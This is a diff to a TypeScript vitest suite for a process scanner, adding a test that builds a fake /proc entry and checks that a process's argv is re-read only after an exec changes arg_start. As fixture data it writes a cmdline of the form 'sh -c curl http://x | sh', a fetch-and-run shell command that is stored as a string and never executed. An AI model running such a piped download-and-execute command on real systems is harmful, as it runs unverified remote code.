@@ -1,4 +1,4 @@
-import { mkdtempSync, rmSync, cpSync, writeFileSync } from 'node:fs'
+import { mkdirSync, mkdtempSync, rmSync, cpSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
@@ -44,6 +44,33 @@ describe('ProcessScanner on a fixture /proc', () => {
       expect(t2.processes.get(100)?.cpuCores).toBeCloseTo(0.5)
       expect(t2.processes.has(401)).toBe(false)
       expect(t2.processes.get(1)?.cpuCores).toBe(0)
+    } finally {
+      rmSync(dir, { recursive: true })
+    }
+  })
+})
+
+describe('ProcessScanner sees an exec that keeps the comm', () => {
+  const stat = (argStart: number) => `600 (sh) S 1 600 600 0 -1 4194304 10 0 0 0 1 0 0 0 20 0 1 0 700000 2732032 250 18446744073709551615 1 1 1 0 0 0 0 0 65538 1 0 0 17 1 0 0 0 0 0 1 1 1 ${argStart} ${argStart + 40} ${argStart + 40} ${argStart + 60} 0\n`
+  it('re-reads argv when arg_start moves (a forked `sh -c` that became `sh`), not on every tick', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'odin-proc-'))
+    try {
+      mkdirSync(join(dir, '600'))
+      writeFileSync(join(dir, 'stat'), 'btime 1700000000\n')
+      writeFileSync(join(dir, '600/stat'), stat(1000))
+      cpSync(join(FIXTURE, '1/status'), join(dir, '600/status'))
+      writeFileSync(join(dir, '600/cmdline'), 'sh\0-c\0curl http://x | sh\0')
+      const scanner = new ProcessScanner({ procfs: dir, files: createProcFiles(0) })
+      expect((await scanner.scan(1000)).processes.get(600)?.identity.argv).toEqual(['sh', '-c', 'curl http://x | sh'])
+      // It ran (utime moved) without an exec: argv is not re-read.
+      writeFileSync(join(dir, '600/cmdline'), 'rewritten\0')
+      writeFileSync(join(dir, '600/stat'), stat(1000).replace(' 10 0 0 0 1 0 ', ' 10 0 0 0 2 0 '))
+      expect((await scanner.scan(2000)).processes.get(600)?.identity.argv).toEqual(['sh', '-c', 'curl http://x | sh'])
+      // exec("sh"): same comm, argv somewhere else.
+      writeFileSync(join(dir, '600/cmdline'), 'sh\0')
+      writeFileSync(join(dir, '600/stat'), stat(5000).replace(' 10 0 0 0 1 0 ', ' 10 0 0 0 3 0 '))
+      expect((await scanner.scan(3000)).processes.get(600)?.identity.argv).toEqual(['sh'])
+      scanner.close()
     } finally {
       rmSync(dir, { recursive: true })
     }
